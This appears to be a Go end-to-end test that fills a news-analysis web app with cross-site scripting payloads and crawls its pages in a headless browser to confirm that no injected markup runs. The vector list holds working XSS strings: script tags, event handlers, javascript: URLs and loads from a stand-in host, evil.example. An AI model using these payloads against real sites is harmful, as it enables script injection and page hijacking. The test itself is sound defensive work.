package e2e

import (
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// vectors are what a text, title, publisher, address or name may hold to run a script in a page: each would set
// window.pwned, open a dialog or ask another host. They follow the contexts of OWASP's cheat sheet on the matter.
var vectors = []string{
	`<script>window.pwned=1;alert(1)</script>`,
	`"><script src=https://evil.example/x.js></script>`,
	`'"><img src=x onerror="window.pwned=1;alert(1)">`,
	`<svg onload=window.pwned=1><animate onbegin=alert(1) attributeName=x></svg>`,
	`</textarea></title></style></pre><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`" autofocus onfocus="window.pwned=1" x="`,
	`<a href="javascript:window.pwned=1">x</a><base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/x.png)}</style>`,
	`{{.Data}}{{"<script>alert(1)</script>"}}${alert(1)}`,
	"<math><mtext></p><img src=x onerror=window.pwned=1></math><!--><script>window.pwned=1</script>-->",
	`<form action=https://evil.example><button formaction=javascript:alert(1)>x`,
}

// hostile makes a store whose articles are full of markup wherever something comes from outside.
func hostile(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	var b strings.Builder
	for i, v := range vectors {
		text := v + "\n\nOslo - Norwegian Prime Minister " + strings.NewReplacer("\n", " ").Replace(v) + " Solberg called Kenyan President William Ruto on Monday. “" + v +
			"” he said. Norway pledged 5 million euros in aid to Kenya. The foreign minister of Norway met " + v + " officials of France in Paris. They agreed to stay in contact. Kenya's president said that " + v + " would help Norway.\n"
		a := map[string]string{"id": v, "title": v, "text": text, "published": "2024-05-0" + string(rune('1'+i%9)), "source": v, "url": []string{"javascript:window.pwned=1", "https://evil.example/" + v, `data:text/html,` + v}[i%3], "lang": "en"}
		line, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(line, '\n'))
	}
	articles, db := filepath.Join(dir, "hostile.jsonl"), filepath.Join(dir, "hostile.db")
	if err := os.WriteFile(articles, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(readout, "add", articles, "--lang", "en", "--db", db).CombinedOutput(); err != nil {
		t.Fatalf("add: %v\n%s", err, out)
	}
	address, stop, err := serve("--db", db)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return address
}

// TestHostile corrects records of the hostile store with hostile names and notes, opens every page that its pages lead
// to, and sees that no script of a text ran and no other host was asked.
func TestHostile(t *testing.T) {
	address := hostile(t)
	n := 0
	for _, kind := range []string{"entities", "events", "statements", "contacts"} {
		var list struct{ Rows []struct{ ID string } }
		get(t, address+"/"+kind+".json?limit=50", &list)
		for i, r := range list.Rows {
			v := vectors[i%len(vectors)]
			form := url.Values{"id": {r.ID}, "verdict": {"accept"}, "by": {v[:min(100, len(v))]}, "note": {v}}
			if kind == "entities" {
				form.Set("verdict", "change")
				form.Set("field-name", v)
				form.Set("field-role", v)
			}
			answer, err := http.PostForm(address+"/correct", form)
			if err != nil {
				t.Fatal(err)
			}
			answer.Body.Close()
			if answer.StatusCode == http.StatusOK {
				n++
			}
		}
	}
	if n < 20 {
		t.Fatalf("only %d hostile corrections were taken", n)
	}
	x := newTab(t, address, looks[0])
	seen, queue := map[string]int{}, []string{"/", "/search?q=" + url.QueryEscape(`"`+vectors[0]+`"`), "/events?q=" + url.QueryEscape(vectors[2]), "/" + url.PathEscape(vectors[0]), "/knowledge/" + url.PathEscape(vectors[0]), "/compare?a=" + url.QueryEscape(vectors[5])}
	shape := regexp.MustCompile(`[0-9a-f]{8,}|[0-9]+|\?.*`)
	for len(queue) > 0 {
		path := queue[0]
		queue = queue[1:]
		kind := shape.ReplaceAllString(path, "*")
		if len(kind) > 24 {
			kind = kind[:24]
		}
		if seen[path] > 0 || seen["kind "+kind] >= 4 { // four pages of a sort are enough
			continue
		}
		seen[path]++
		seen["kind "+kind]++
		x.do(chromedp.Navigate(address + path))
		x.forgive("Failed to load resource")
		if eval[bool](x, `"pwned" in window || document.querySelector("iframe, base, main script, main style, main meta, main [onerror], main [onload], main [onfocus]") !== null || [...document.links].some(a => !/^https?:$/.test(a.protocol))`) {
			t.Errorf("%s: markup of a text is markup of the page", path)
		}
		x.sound()
		queue = append(queue, eval[[]string](x, `[...document.links].filter(a => a.host === location.host && !/\.(json|jsonl|csv|parquet|atom|bib)$|^\/records\/.*\.|\/knowledge\//.test(a.pathname)).map(a => a.pathname + a.search)`)...)
	}
	t.Logf("%d pages opened", len(seen)/2)
	x.open(address+"/documents", 200)
	x.shot("hostile-documents")
}
